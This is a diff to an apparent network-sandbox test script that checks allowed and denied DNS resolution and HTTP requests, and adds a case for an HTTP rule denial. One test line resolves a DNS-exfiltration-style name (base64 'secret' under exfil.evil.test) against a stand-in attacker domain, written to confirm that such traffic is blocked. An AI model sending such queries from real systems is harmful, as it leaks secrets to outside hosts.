@@ -52,6 +52,7 @@ def resolve(name, host):
 resolve("resolve_allowed", "allowed.test")
 resolve("resolve_denied", "c2VjcmV0.exfil.evil.test")
 curl("allowed_by_name", f"http://allowed.test:{port}/via-tun")
+curl("http_rule_denied", f"http://allowed.test:{port}/forbidden")
 curl("denied_by_name", f"http://evil.test:{port}/")
 curl("raw_ip", f"http://192.0.2.99:{port}/")
 curl("unmapped_pool_ip", f"http://198.18.200.200:{port}/")
